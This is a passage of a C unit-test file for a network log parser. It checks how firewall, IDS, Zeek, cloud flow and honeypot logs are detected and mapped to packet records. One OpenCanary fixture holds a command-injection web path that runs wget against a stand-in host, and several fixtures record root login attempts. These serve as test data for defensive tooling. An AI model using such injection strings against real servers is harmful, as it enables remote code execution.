    {.format = "iptables",
     .text = "<4>1 2024-05-08T00:00:52.000Z gw kernel - - [timeQuality tzKnown=\"1\" "
             "isSynced=\"1\"] X "
             "IN=eth0 OUT= MAC= SRC=192.0.2.1 DST=203.0.113.9 LEN=60 TOS=0x00 PREC=0x00 TTL=43 "
             "ID=1 DF PROTO=TCP SPT=9 DPT=23 WINDOW=5840 RES=0x00 SYN URGP=0\n",
     TO_TELNET},
    {.format = "iptables",
     .text =
         "<4>1 2024-05-08T00:00:52.000Z gw kernel 0 kern [a b=\"1\"][c d=\"2\"] \xef\xbb\xbf"
         "IN=eth0 OUT= MAC= SRC=192.0.2.1 DST=203.0.113.9 LEN=60 TOS=0x00 PREC=0x00 TTL=43 "
         "ID=1 DF PROTO=TCP SPT=9 DPT=23 WINDOW=5840 RES=0x00 SYN URGP=0\n",
     TO_TELNET},
    {.format = "ufw",
     .text = "<4>1 2024-05-08T00:00:52.000Z gw kernel - - [meta sequenceId=\"1\"] [35.781] "
             "[UFW BLOCK] "
             "IN=eth0 OUT= MAC= SRC=192.0.2.1 DST=203.0.113.9 LEN=60 TOS=0x00 PREC=0x00 TTL=43 "
             "ID=1 DF PROTO=TCP SPT=9 DPT=23 WINDOW=5840 RES=0x00 SYN URGP=0\n",
     TO_TELNET},
    {.format = "journal",
     .text = "{\"_TRANSPORT\":\"kernel\",\"__REALTIME_TIMESTAMP\":\"1715126452000000\","
             "\"MESSAGE\":\"nft-in: "
             "IN=eth0 OUT= MAC= SRC=192.0.2.1 DST=203.0.113.9 LEN=60 TOS=0x00 PREC=0x00 TTL=43 "
             "ID=1 DF PROTO=TCP SPT=9 DPT=23 WINDOW=5840 RES=0x00 SYN URGP=0\"}\n",
     TO_TELNET},
    {.format = "journal",
     .text = "{\"MESSAGE\" : \"[UFW BLOCK] "
             "IN=eth0 OUT= MAC= SRC=192.0.2.1 DST=203.0.113.9 LEN=60 TOS=0x00 PREC=0x00 TTL=43 "
             "ID=1 DF PROTO=TCP SPT=9 DPT=23 WINDOW=5840 RES=0x00 SYN URGP=0 "
             "\",\"_SOURCE_REALTIME_TIMESTAMP\":\"1715126452000000\","
             "\"__REALTIME_TIMESTAMP\":\"1715126453000000\"}\n",
     TO_TELNET},
    {.format = "zeek-conn",
     .text = "#separator \\x09\n#path\tconn\n#fields\tts\tid.orig_h\tid.orig_p\tid.resp_h\t"
             "id.resp_p\tproto\n1715126452.0\t192.0.2.1\t9\t203.0.113.9\t23\ttcp\n",
     TO_TELNET,
     .class = CLASS_SCAN,
     .rule = "log:zeek-conn"},
    {.format = "zeek-conn",
     .text = "{\"ts\":1715126452.0,\"id.orig_h\":\"192.0.2.1\",\"id.orig_p\":9,\"id.resp_h\":"
             "\"203.0.113.9\",\"id.resp_p\":23,\"proto\":\"tcp\",\"orig_pkts\":1}\n",
     TO_TELNET,
     .class = CLASS_SCAN,
     .rule = "log:zeek-conn"},
    {.format = "fortigate",
     .text = "<189>date=2024-05-08 time=02:00:52 devname=\"fw\" type=\"traffic\" "
             "subtype=\"local\" tz=\"+0200\" srcip=192.0.2.1 srcport=9 srcintf=\"wan1\" "
             "srcintfrole=\"wan\" dstip=203.0.113.9 dstport=23 proto=6 action=\"deny\" "
             "service=\"TELNET\" duration=0 sentbyte=0 rcvdbyte=0 sentpkt=0\n"
             "<189>date=2024-05-08 time=02:00:53 type=\"event\" srcip=192.0.2.2\n",
     TO_TELNET,
     .class = CLASS_SCAN,
     .rule = "log:fortigate"},
    {.format = "fortigate",
     .text = "May  8 02:00:53 fw date=2024-05-08 time=02:00:53 type=\"traffic\" "
             "eventtime=1715126452000000000 srcip=192.0.2.1 dstip=203.0.113.9 proto=1 "
             "service=\"PING\" action=\"accept\" sentpkt=4 rcvdpkt=4\n",
     .src = "192.0.2.1",
     .proto = PROTO_ICMP,
     .dport = 8 << 8,
     .class = CLASS_SCAN,
     .rule = "log:fortigate",
     .time_s = 1715126452},
    {.format = "alert-fast",
     .text = "05/08/2024-00:00:52.000000  [wDrop] [**] [1:2009582:3] ET SCAN x [**] "
             "[Classification: Web Application Attack] [Priority: 1] {TCP} 192.0.2.1:9 -> "
             "203.0.113.9:23\n",
     TO_TELNET,
     .class = CLASS_EXPLOIT,
     .rule = "alert:ET SCAN x"},
    {.format = "alert-fast",
     .text = "05/08/24-00:00:52.000000 [**] [1:1:0] \"own\" [**] [Priority: 0] {UDP} "
             "2001:db8::1:9 -> 2001:db8::2:53\n",
     .src = "2001:db8::1",
     .proto = PROTO_UDP,
     .sport = 9,
     .dport = 53,
     .class = CLASS_SCAN,
     .rule = "alert:own",
     .time_s = 1715126452},
    {.format = "alert-fast",
     .text = "05/08/24-00:00:52.000000  [**] [1:384:5] ICMP PING [**] [Classification: Misc "
             "activity] [Priority: 3] {ICMP} 192.0.2.1 -> 203.0.113.9\n",
     .src = "192.0.2.1",
     .proto = PROTO_ICMP,
     .class = CLASS_SCAN,
     .rule = "alert:ICMP PING",
     .time_s = 1715126452},
    {.format = "alert-fast",
     .text = "05/08/2024-00:00:52.000000  [**] [1:384:5] ICMP PING [**] [Classification: Misc "
             "activity] [Priority: 3] {ICMP} 192.0.2.1:8 -> 203.0.113.9:0\n",
     .src = "192.0.2.1",
     .proto = PROTO_ICMP,
     .dport = 8 << 8,
     .class = CLASS_SCAN,
     .rule = "alert:ICMP PING",
     .time_s = 1715126452},
    {.format = "heralding",
     .text = "timestamp,auth_id,session_id,source_ip,source_port,destination_ip,"
             "destination_port,protocol,username,password,password_hash\n2024-05-08 "
             "00:00:52.000000,a,b,192.0.2.1,9,,23,telnet,root,x,\n",
     TO_TELNET,
     .class = CLASS_CREDENTIAL,
     .rule = "login"},
    {.format = "heralding",
     .text = "timestamp,duration,session_id,source_ip,source_port,destination_ip,"
             "destination_port,protocol,num_auth_attempts\n2024-05-08 "
             "00:00:52.000000,3,b,192.0.2.1,9,203.0.113.9,23,telnet,2\n",
     TO_TELNET,
     .class = CLASS_SCAN,
     .rule = "log:heralding"},
    {.format = "dionaea",
     .text =
         "{\"connection\": {\"protocol\": \"telnetd\", \"transport\": \"tcp\", \"type\": "
         "\"accept\"}, \"credentials\": [{\"password\": \"\", \"username\": \"root\"}], "
         "\"dst_ip\": \"203.0.113.9\", \"dst_port\": 23, \"src_hostname\": \"\", \"src_ip\": "
         "\"192.0.2.1\", \"src_port\": 9, \"timestamp\": \"2024-05-08T00:00:52.000000\"}\n",
     TO_TELNET,
     .class = CLASS_CREDENTIAL,
     .rule = "login"},
    {.format = "filterlog",
     .text = "<134>1 2024-05-08T02:00:52+02:00 fw filterlog 76404 - [meta sequenceId=\"1\"] "
             "5,,,1000000103,em0,match,block,in,4,0x0,,52,4711,0,DF,6,tcp,60,192.0.2.1,"
             "203.0.113.9,9,23,0,S,1,,64240,,mss;sackOK\n",
     TO_TELNET},
    {.format = "filterlog",
     .text = "2024-05-08T00:00:52Z fw filterlog[7]: 5,,,1,em0,match,block,in,6,0x00,0x1,52,UDP,"
             "17,32,2001:db8::1,2001:db8::2,9,5060,32\n",
     .src = "2001:db8::1",
     .proto = PROTO_UDP,
     .sport = 9,
     .dport = 5060,
     .time_s = 1715126452},
    {.format = "filterlog",
     .text =
         "2024-05-08T00:00:52Z fw filterlog: 5,,,1,em0,match,pass,in,4,0x0,,64,6,0,DF,1,icmp,"
         "84,192.0.2.1,203.0.113.9,request,37728,164\n",
     .src = "192.0.2.1",
     .proto = PROTO_ICMP,
     .sport = 37728,
     .dport = 8 << 8,
     .time_s = 1715126452},
    {.format = "windows-firewall",
     .text = "#Version: 1.5\r\n#Software: Microsoft Windows Firewall\r\n#Time Format: Local\r\n"
             "#Fields: date time action protocol src-ip dst-ip src-port dst-port size tcpflags "
             "tcpsyn tcpack tcpwin icmptype icmpcode info path\r\n\r\n"
             "2024-05-08 00:00:52 DROP TCP 192.0.2.1 203.0.113.9 9 23 52 S 1 0 8192 - - - "
             "RECEIVE\r\n",
     TO_TELNET},
    {.format = "aws-vpc-flow",
     .text = "version srcaddr dstaddr srcport dstport protocol start end tcp-flags action\n"
             "3 - - - - - 1715126452 1715126510 - -\n"
             "3 192.0.2.1 203.0.113.9 9 23 6 1715126452 1715126510 2 REJECT\n",
     TO_TELNET,
     .class = CLASS_SCAN,
     .rule = "log:aws-vpc-flow"},
    {.format = "aws-vpc-flow",
     .text = "account-id srcaddr dstaddr srcport dstport protocol start end tcp-flags\n"
             "1 192.0.2.1 203.0.113.9 9 23 6 1715126452 1715126510 19\n"
             "account-id srcaddr dstaddr srcport dstport protocol start end tcp-flags\n",
     TO_TELNET,
     .class = CLASS_OTHER,
     .rule = "flow:syn-ack"},
    {.format = "aws-vpc-flow-v2",
     .text = "2 123456789010 eni-1235b8ca 192.0.2.1 203.0.113.9 9 23 6 20 4249 1715126452 "
             "1715126510 ACCEPT OK\n2 123456789010 eni-1235b8ca - - - - - - - 1715126452 "
             "1715126510 - NODATA\n",
     TO_TELNET,
     .class = CLASS_SCAN,
     .rule = "log:aws-vpc-flow-v2"},
    {.format = "opencanary",
     .text = "{\"dst_host\": \"203.0.113.9\", \"dst_port\": 5900, \"local_time\": \"2024-05-08 "
             "00:00:52.000000\", \"logdata\": {\"VNC Client Response\": \"x\"}, \"logtype\": "
             "12001, \"node_id\": \"c\", \"src_host\": \"192.0.2.1\", \"src_port\": 9}\n",
     .src = "192.0.2.1",
     .proto = PROTO_TCP,
     .sport = 9,
     .dport = 5900,
     .class = CLASS_CREDENTIAL,
     .rule = "login",
     .time_s = 1715126452},
    {.format = "opencanary",
     .text =
         "{\"dst_host\": \"\", \"dst_port\": -1, \"local_time\": \"2024-05-08 "
         "00:00:00.000000\", \"logdata\": {\"msg\": \"x\"}, \"logtype\": 1001, \"node_id\": "
         "\"c\", \"src_host\": \"\", \"src_port\": -1}\n"
         "{\"dst_host\": \"203.0.113.9\", \"dst_port\": 23, \"local_time\": \"2024-05-08 "
         "00:00:52.000000\", \"logdata\": {\"PASSWORD\": \"a\", \"USERNAME\": \"root\"}, "
         "\"logtype\": 6001, \"node_id\": \"c\", \"src_host\": \"192.0.2.1\", "
         "\"src_port\": 9, \"utc_time\": \"2024-05-08 00:00:52.000000\"}\n",
     TO_TELNET,
     .class = CLASS_CREDENTIAL,
     .rule = "login"},
    {.format = "opencanary",
     .text = "{\"dst_host\": \"203.0.113.9\", \"dst_port\": 80, \"local_time\": \"2024-05-08 "
             "00:00:52.000000\", \"logdata\": {\"HOSTNAME\": \"203.0.113.9\", \"PATH\": "
             "\"/cgi-bin/;wget+http://192.0.2.7/a\", \"USERAGENT\": \"x\"}, \"logtype\": 3000, "
             "\"node_id\": \"c\", \"src_host\": \"192.0.2.1\", \"src_port\": 9}\n",
     .src = "192.0.2.1",
     .proto = PROTO_TCP,
     .sport = 9,
     .dport = 80,
     .time_s = 1715126452},
    {.format = "web-access",
     .text = "192.0.2.1 - - [08/May/2024:02:00:52 +0200] \"GET / HTTP/1.1\" 404 196\n",
     .src = "192.0.2.1",
     .proto = PROTO_TCP,
     .time_s = 1715126452},
    {.format = "web-access",
     .text = "www.example.com:8080 192.0.2.1 - a b [08/May/2024:00:00:52 +0000] "
             "\"\\x16\\x03\\x01\" 400 - \"-\" \"-\"\n",
     .src = "192.0.2.1",
     .proto = PROTO_TCP,
     .dport = 8080,
     .class = CLASS_SCAN,
     .rule = "log:web-access",
     .time_s = 1715126452},
};

static void a_format_is_read_to_its_end_and_no_further(void **state)
{
    static const char text[] = "-- name: own\n-- about: x\n-- read: lines\nSELECT n FROM rows";
    size_t length = sizeof(text) - 1;
    char *exact = malloc(length); /* no NUL behind it */
    struct log_format *format = NULL;
    struct nj_err err = {0};

    (void)state;
    assert_non_null(exact);
    memcpy(exact, text, length);
    if (format_parse("own.sql", exact, length, &format, &err) < 0)
        fail_msg("%s", err.msg);
    assert_string_equal(format->name, "own");
    format_free(format);
    free(exact);
}

static void each_format_is_found_by_content_and_maps_its_row(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof(samples) / sizeof(samples[0]); i++) {
        const struct sample *sample = &samples[i];
        const struct packet *packet = &result.packets[0];

        read_good(sample->format, sample->text, &plain);
        if (result.count != 1)
            fail_msg("%s: %s", sample->format, result.rejects[0].reason);
        assert_string_equal(text_of(packet->src), sample->src);
        assert_int_equal(packet->time_ns, sample->time_s * SECOND);
        assert_int_equal(packet->proto, sample->proto);
        assert_int_equal(packet->sport, sample->sport);
        assert_int_equal(packet->dport, sample->dport);
        if (sample->rule == NULL) {
            assert_int_equal(packet->rule, 0);
            continue;
        }
        assert_int_equal(packet->class, sample->class);
        assert_string_equal(nj_intern_text(names, packet->rule), sample->rule);
    }
}

static void dionaeas_names_of_services_become_those_of_applications(void **state)
{
    static const struct {
        const char *name, *app;
    } cases[] = {{"httpd", "http"}, {"SipSession", "sip"},         {"RtpUdpStream", "rtp"},
                 {"pcap", ""},      {"TftpServerHandler", "tftp"}, {"memcached", "memcached"}};
    char text[400];

    (void)state;
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        (void)snprintf(text, sizeof(text),
                       "{\"connection\": {\"protocol\": \"%s\", \"transport\": \"udp\", "
                       "\"type\": \"accept\"}, \"dst_port\": 5060, \"src_ip\": \"192.0.2.1\", "
                       "\"src_port\": 9, \"timestamp\": \"2024-05-08T00:00:52\"}\n",
                       cases[i].name);
        read_good("dionaea", text, &plain);
        assert_string_equal(nj_intern_text(names, result.packets[0].app), cases[i].app);
    }
}

static void what_leaves_the_sensor_is_its_own(void **state)
{
    static const struct {
        const char *format, *text;
    } logs[] = {
        {"filterlog",
         "2024-05-08T00:00:52Z fw filterlog[7]: 5,,,1,em0,match,pass,out,4,0x0,,64,6,"
         "0,DF,6,tcp,60,203.0.113.9,192.0.2.1,9,23,0,S,1,,64240,,mss\n"},
        {"windows-firewall", "#Software: Microsoft Windows Firewall\n2024-05-08 00:00:52 ALLOW "
                             "TCP 203.0.113.9 192.0.2.1 9 23 0 - 0 0 0 - - - SEND\n"},
        {"aws-vpc-flow", "srcaddr dstaddr srcport dstport protocol start end flow-direction\n"
                         "203.0.113.9 192.0.2.1 9 23 6 1715126452 1715126510 egress\n"},
        {"fortigate", "date=2024-05-08 time=00:00:52 type=\"traffic\" srcip=203.0.113.9 "
                      "srcport=9 srcintfrole=\"lan\" dstip=192.0.2.1 dstport=23 proto=6\n"},
        {"dionaea",
         "{\"connection\": {\"protocol\": \"http\", \"transport\": \"tcp\", \"type\": "
         "\"connect\"}, \"dst_ip\": \"192.0.2.1\", \"dst_port\": 80, \"src_ip\": "
         "\"203.0.113.9\", \"src_port\": 9, \"timestamp\": "
         "\"2024-05-08T00:00:52\"}\n"},
    };

    (void)state;
    for (size_t i = 0; i < sizeof(logs) / sizeof(logs[0]); i++) {
        read_good(logs[i].format, logs[i].text, &plain);
        assert_int_equal(result.count, 1);
        assert_int_equal(result.packets[0].direction, DIRECTION_OUT);
    }
}

static void lines_may_end_in_a_carriage_return_alone(void **state)
{
    (void)state;
    read_good("csv",
              "time,src_ip,dst_port\r1651968052,192.0.2.1,22\r\r1651968053,x,23\r"
              "1651968054,192.0.2.1,\"2\r4\"\r1651968055,192.0.2.1,25",
              &plain);
    assert_int_equal(result.count, 2);
    assert_int_equal(result.packets[0].dport, 22);
    assert_int_equal(result.packets[1].dport, 25);
    assert_reject(0, 4, "src is \"x\", expected an address");
    assert_reject(1, 5, "dport is \"2?4\", expected a number");
    assert_int_equal(result.position.line, 7);
}

static void csv_may_name_its_separator_in_the_first_line(void **state)
{
    static const char *const heads[] = {"sep=;\r\n", "\"sep=;\"\n", "\xef\xbb\xbfSEP=;\n"};

    (void)state;
    for (size_t i = 0; i < sizeof(heads) / sizeof(heads[0]); i++) {
        char text[256];

        (void)snprintf(text, sizeof(text),
                       "%stime;src_ip;dst_port;user\n1651968052;192.0.2.1;22;a,b\n", heads[i]);
        read_good("csv", text, &plain);
        assert_int_equal(result.count, 1);
        assert_int_equal(result.packets[0].dport, 22);
        assert_string_equal(result.packets[0].user, "a,b");
    }
}

static void csv_may_have_blanks_between_its_cells(void **state)
{
    static const char head[] = "-- name: own\n-- about: x\n-- read: csv\n"
                               "-- columns: start! srcaddr! dstport!\n-- delimiter:";
    static const char select[] =
        "\nSELECT n, epoch_any(start) AS ts, srcaddr AS src, dstport AS dport FROM rows\n";
    static const char *const bad[] = {"", " comma", " ; tab , | : . ! ?"};
    struct log_format *format = NULL;
    char text[512];

    (void)state;
    (void)snprintf(text, sizeof(text), "%s , blank%s", head, select);
    assert_int_equal(read_with(text, "version srcaddr dstport start log-status\n"
                                     "2 192.0.2.1 22 1651968052 OK\n2 - - 1651968052 NODATA\n"),
                     LOG_END);
    assert_int_equal(result.count, 1);
    assert_int_equal(result.packets[0].dport, 22);
    assert_int_equal(result.packets[0].time_ns, 1651968052 * SECOND);
    assert_reject(0, 3, "no source address");
    for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
        (void)snprintf(text, sizeof(text), "%s%s%s", head, bad[i], select);
        assert_int_equal(format_parse("own.sql", text, strlen(text), &format, &result.err), -1);
        assert_non_null(strstr(result.err.msg, "own.sql:5: delimiter: "));
    }
}

static void times_with_words_and_odd_zones_are_read(void **state)
{
    static const struct {
        const char *text;
        int64_t seconds; /* 0: not to be read */
    } times[] = {
        {"Sun, 08 May 2022 02:00:52 +0200", 1651968052},
        {"Sun, 8 May 2022 00:00:52 GMT", 1651968052},
        {"8 May 2022 05:30:52 +0530 (IST)", 1651968052},
        {"Sat, 07 May 2022 19:00:52 EST", 1651968052},
        {"Sun May  8 00:00:52 2022", 1651968052},
        {"Sun May  8 02:00:52 CEST 2022", 1651968052},
        {"08/May/2022:02:00:52 +0200", 1651968052},
        {"08-May-2022 00:00:52.250", 1651968052},
        {"May  8, 2022 @ 00:00:52.000", 1651968052},
        {"2022-05-08T05:45:52+05:45", 1651968052},
        {"2022-05-07T14:30:52.5-0930", 1651968052},
        {"2022-05-08t00:00:52z", 1651968052},
        {"2022-05-08T14:00:52+14", 1651968052},
        {"2022-05-08 02:00:52 +02:00", 1651968052},
        {"2022-05-07 19:00:52 -0500", 1651968052},
        {"2022-05-08 02:00:52 +02", 1651968052},
        {"2022-05-08T00:00:60Z", 1651968059},
        {"Sat Dec 31 23:59:60 2022", 1672531199},
        {"Sun, 08 May 2022 00:00:52 BST", 0}, /* British, or Bougainville's */
        {"Sun, 38 May 2022 00:00:52 GMT", 0},
        {"Sun, 08 Mai 2022 00:00:52 GMT", 0},
        {"2022-05-08T00:00:52+00:00:30", 0},
        {"May|+zz", 0},
    };
    char text[4096] = "time,src\n";
    size_t good = 0;

    (void)state;
    for (size_t i = 0; i < sizeof(times) / sizeof(times[0]); i++)
        (void)snprintf(text + strlen(text), sizeof(text) - strlen(text), "\"%s\",192.0.2.1\n",
                       times[i].text);
    read_good("csv", text, &plain);
    for (size_t i = 0; i < sizeof(times) / sizeof(times[0]); i++) {
        if (times[i].seconds == 0) {
            assert_reject(i - good, i + 2, "no time, or one that can't be read");
            continue;
        }
        if (result.packets[good].time_ns / SECOND != times[i].seconds)
            fail_msg("%s: %lld", times[i].text, (long long)result.packets[good].time_ns);
        good++;
    }
    assert_int_equal(result.count, good);
}

static void a_time_with_words_is_in_the_zone_that_is_said(void **state)
{
    (void)state;
    read_good("csv", "time,src\nSun May  8 02:00:52 2022,192.0.2.1\n",
              &(struct log_options){.tz = "Europe/Berlin"});
    assert_int_equal(result.packets[0].time_ns, 1651968052 * SECOND);
}

static void json_may_stand_behind_a_syslog_head(void **state)
{
#define BEHIND                                                                                 \
    "{\"timestamp\":\"2021-06-06T15:58:31.000000+0200\",\"event_type\":\"alert\",\"src_ip\":"  \
    "\"192.0.2.1\",\"dest_port\":22,\"proto\":\"TCP\",\"alert\":{\"signature\":\"S\"}}\n"

    (void)state;
    read_good("suricata-eve",
              "Jun  6 13:58:30 ids sshd[7]: Invalid user {x}\n"
              "Jun  6 13:58:31 ids suricata[1234]: " BEHIND
              "<134>1 2021-06-06T13:58:31Z ids suricata 1 - [a b=\"{\"] " BEHIND
              "2021-06-06T13:58:31.8+00:00 ids suricata: @cee: " BEHIND,
              &plain);
    assert_int_equal(result.count, 3);
    assert_int_equal(result.packets[2].dport, 22);
    assert_string_equal(nj_intern_text(names, result.packets[2].rule), "alert:S");
}

/* Told what it is, a log that does not look like it is read as what it does look like. */
static void a_log_that_is_named_may_have_its_json_behind_a_head(void **state)
{
    static const struct {
        const char *text;
        enum rows_kind kind;
    } cases[] = {
        {"{\"ts\":1}\n", ROWS_JSON},
        {"<14>May  8 00:00:01 host zeek: {\"ts\":1}\n", ROWS_JSON},
        {"May  8 00:00:01 host sshd: hello\nMay  8 00:00:01 host zeek: {\"ts\":1}\n",
         ROWS_JSON},
        {"\n\n  {\"ts\":1}\n", ROWS_JSON},
        {"#separator \\x09\n#fields\tts\n", ROWS_ZEEK},
        {"#comment {\"ts\":1}\n1\t2\n", ROWS_ZEEK},
        {"a,b\n1,x{\"y\"}\n", ROWS_ZEEK},
        {"", ROWS_ZEEK},
    };
    struct log_formats *formats = load(NJ_SOURCE_DATA "/logs");

    (void)state;
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
        assert_int_equal(format_guess(log_formats_find(formats, "zeek-conn"),
                                      (const uint8_t *)cases[i].text, strlen(cases[i].text)),
                         cases[i].kind);
    log_formats_free(formats);
    assert_int_equal(
        read_text("zeek-conn",
                  "May  8 00:00:01 host zeek: {\"ts\":1.5,\"id.orig_h\":\"192.0.2.1\","
                  "\"id.orig_p\":4000,\"id.resp_h\":\"198.51.100.1\","
                  "\"id.resp_p\":22,\"proto\":\"tcp\"}\n",
                  &plain),
        LOG_END);
    assert_int_equal(result.count, 1);
    assert_int_equal(result.packets[0].dport, 22);
}

static void lines_of_other_programs_between_json_are_unsupported(void **state)
{
    (void)state;
    read_good("suricata-eve",
              "Jun  6 13:58:31 ids suricata[1234]: " BEHIND
              "Jun  6 13:58:30 ids sshd[7]: Invalid user {x} from 192.0.2.1: a\n"
              "last message repeated 2 times\n"
              "Jun  6 13:58:31 ids suricata[1234]: {\"timestamp\":\n"
              "Jun  6 13:58:31 ids \"src_ip\":\"192.0.2.1\"}\n"
              "[\"timestamp\"]\n" BEHIND,
              &plain);
    assert_int_equal(result.count, 2);
    assert_int_equal(result.counts.unsupported, 2);
    assert_int_equal(result.counts.malformed, 3);
    assert_reject(0, 4, "not valid JSON");
    assert_reject(1, 5, "not a JSON object");
    assert_reject(2, 6, "not a JSON object");
}

static void a_web_request_comes_as_payload(void **state)
{
    static const char request[] = "GET /a\xe9\"b HTTP/1.1\r\nHost: www.example.com\r\n"
                                  "Referer: r\r\nUser-Agent: u v\r\n\r\n";

    (void)state;
    read_good("web-access",
              "www.example.com:80 192.0.2.1 - joe [08/May/2024:00:00:52 +0000] \"GET "
              "/a\\xE9\\\"b HTTP/1.1\" 200 5 \"r\" \"u v\"\n"
              "192.0.2.2 - - [08/May/2024:00:00:52 +0000] \"-\" 408 -\n"
              "192.0.2.3 - - [08/May/2024:00:00:52 +0000] \"\\x03\\x00\\n\\b\\v\\\\x\" 400 5\n",
              &plain);
    assert_int_equal(result.count, 3);
    assert_string_equal(result.packets[0].user, "joe");
    assert_int_equal(result.packets[0].payload_length, sizeof(request) - 1);
    assert_memory_equal(result.packets[0].payload, request, sizeof(request) - 1);
    assert_int_equal(result.packets[0].rule, 0);
    assert_true(result.packets[0].answered);
    assert_int_equal(result.packets[1].payload_length, 0);
    assert_int_equal(result.packets[2].payload_length, 7);
    assert_memory_equal(result.packets[2].payload, "\x03\0\n\b\v\\x", 7);
}

static void zeek_rows_without_a_state_tell_of_answers_by_what_they_have(void **state)
{
#define ZEEK_CUT(rest)                                                                         \
    "{\"ts\":1715126452.0,\"id.orig_h\":\"192.0.2.1\",\"id.orig_p\":9,\"id.resp_h\":"          \
    "\"203.0.113.9\",\"id.resp_p\":23,\"proto\":\"tcp\"" rest "}\n"

    (void)state;
    read_good("zeek-conn",
              ZEEK_CUT(",\"orig_pkts\":1") ZEEK_CUT(",\"resp_pkts\":0")
                  ZEEK_CUT(",\"resp_pkts\":2") ZEEK_CUT(",\"conn_state\":\"SF\"")
                      ZEEK_CUT(",\"conn_state\":\"S0\""),
              &plain);
    assert_int_equal(result.count, 5);
    assert_true(result.packets[0].untold);
    assert_false(result.packets[1].untold || result.packets[1].answered);
    assert_true(result.packets[2].answered);
    assert_true(result.packets[3].answered);
    assert_false(result.packets[4].untold || result.packets[4].answered);
}

/* Of a log that no format reads the way out is told. */
static void what_an_unknown_log_looks_like_is_said(void **state)
{
    static const struct {
        const char *text, *says;
    } logs[] = {
        {"{\"_index\":\"logstash\",\"_source\":{\"eventid\":\"cowrie.session.connect\","
         "\"session\":\"a\",\"timestamp\":\"2024-05-08T00:00:52Z\"}}\n",
         "Elasticsearch"},
        {"#separator \\x09\n#path\tssh\n#fields\tts\tid.orig_h\tclient\n", "Zeek"},
        {"a \"#fields\" {\"_source\":1}\n", ""},
        {"#field\n", ""},
    };
    struct log_formats *formats = load(NJ_SOURCE_DATA "/logs");

    (void)state;
    for (size_t i = 0; i < sizeof(logs) / sizeof(logs[0]); i++) {
        const struct log_format *format = NULL;
        struct nj_stream *stream = NULL;
        const char *says;

        assert_int_equal(
            nj_stream_open_bytes(logs[i].text, strlen(logs[i].text), &stream, NULL), 0);
        assert_int_equal(log_detect(formats, stream, &format, NULL), LOG_UNKNOWN);
        says = log_looks_like(stream);
        if (logs[i].says[0] == '\0')
            assert_string_equal(says, "");
        else
            assert_non_null(strstr(says, logs[i].says));
        nj_stream_free(stream);
    }
    log_formats_free(formats);
}

static void rows_of_zeeks_other_logs_are_left_out_where_they_say_so(void **state)
{
#define PATH_ROW(path, rest)                                                                   \
    "{\"_path\":\"" path "\",\"ts\":1715126452.0,\"id.orig_h\":\"192.0.2.1\","                 \
    "\"id.orig_p\":9,\"id.resp_h\":\"203.0.113.9\",\"id.resp_p\":443" rest "}\n"

    (void)state;
    read_good("zeek-conn",
              PATH_ROW("conn", ",\"proto\":\"tcp\",\"conn_state\":\"SF\"")
                  PATH_ROW("ssl", ",\"version\":\"TLSv12\""),
              &plain);
    assert_int_equal(result.count, 1);
    assert_int_equal(result.counts.unsupported, 1);
}

/* What the names of columns are asks for a column, not for a word somewhere in a row. */
static void other_logs_of_zeek_are_not_taken_for_connections(void **state)
{
#define DNS_HEAD                                                                               \
    "#path\tdns\n#fields\tts\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\trtt\tquery\n"
#define DNS_JSON                                                                               \
    "{\"ts\":1715126452.0,\"id.orig_h\":\"192.0.2.1\",\"id.orig_p\":9,\"id.resp_h\":"          \
    "\"203.0.113.9\",\"id.resp_p\":53,\"proto\":\"udp\",\"query\":"
    static const struct {
        const char *text;
        int rc;
    } logs[] = {
        {DNS_HEAD, LOG_UNKNOWN},
        {DNS_HEAD "1\t192.0.2.1\t9\t203.0.113.9\t53\tudp\t-\thistory.example.com\n",
         LOG_UNKNOWN},
        {DNS_JSON "\"history\"}\n", LOG_UNKNOWN},
        {DNS_JSON "\"duration.example.com\"}\n", LOG_UNKNOWN},
        {DNS_JSON "\"\\\"duration\\\":\"}\n", LOG_UNKNOWN},
        {DNS_JSON "\"a\",\"duration\" : 1}\n", 0},
        {"ts,id.orig_h,id.orig_p,id.resp_h,id.resp_p,proto,query\n"
         "1,192.0.2.1,9,203.0.113.9,53,udp,history\n",
         LOG_UNKNOWN},
        {"ts,id.orig_h,id.orig_p,id.resp_h,id.resp_p,proto,history\n", 0},
        {"\"duration\",\"ts\",\"id_orig_h\",\"id_orig_p\",\"id_resp_h\",\"id_resp_p\","
         "\"proto\"\n",
         0},
    };
    struct log_formats *formats = load(NJ_SOURCE_DATA "/logs");

    (void)state;
    for (size_t i = 0; i < sizeof(logs) / sizeof(logs[0]); i++) {
        const struct log_format *format = NULL;
        struct nj_stream *stream = NULL;

        assert_int_equal(
            nj_stream_open_bytes(logs[i].text, strlen(logs[i].text), &stream, NULL), 0);
        if (log_detect(formats, stream, &format, NULL) != logs[i].rc)
            fail_msg("%s", logs[i].text);
        if (format != NULL)
            assert_string_equal(log_format_name(format), "zeek-conn");
        nj_stream_free(stream);
    }
    log_formats_free(formats);
}

#define COWRIE(event, rest)                                                                    \
    "{\"eventid\":\"cowrie." event "\",\"session\":\"a1\",\"timestamp\":"                      \
    "\"2018-05-20T00:05:32.496124Z\",\"src_ip\":\"192.0.2.1\"" rest "}\n"
#define COWRIE_BEGIN                                                                           \
    COWRIE("session.connect",                                                                  \
           ",\"src_port\":48349,\"dst_ip\":\"203.0.113.9\",\"dst_port\":2222,"                 \
           "\"protocol\":\"ssh\"")                                                             \
    COWRIE("client.version", ",\"version\":\"SSH-2.0-Go\"")
#define COWRIE_LOGIN COWRIE("login.failed", ",\"username\":\"root\",\"password\":\"x\"")

static void assert_cowrie_login(const struct packet *packet)
{
    assert_int_equal(packet->class, CLASS_CREDENTIAL);
    assert_string_equal(packet->user, "root");
    assert_int_equal(packet->sport, 48349);
    assert_int_equal(packet->dport, 2222);
    assert_string_equal(text_of(packet->dst), "203.0.113.9");
    assert_int_equal(packet->payload_length, strlen("SSH-2.0-Go"));
}

static void later_rows_of_a_cowrie_session_know_its_ports_and_client(void **state)
{
    (void)state;
    read_good("cowrie", COWRIE_BEGIN COWRIE_LOGIN COWRIE("session.closed", ""), &plain);
    assert_int_equal(result.count, 2);
    assert_int_equal(result.counts.unsupported, 2);
    assert_int_equal(result.packets[0].class, CLASS_SCAN);
    assert_cowrie_login(&result.packets[1]);
}

static void grown_cowrie_log_still_knows_what_was_read_before(void **state)
{
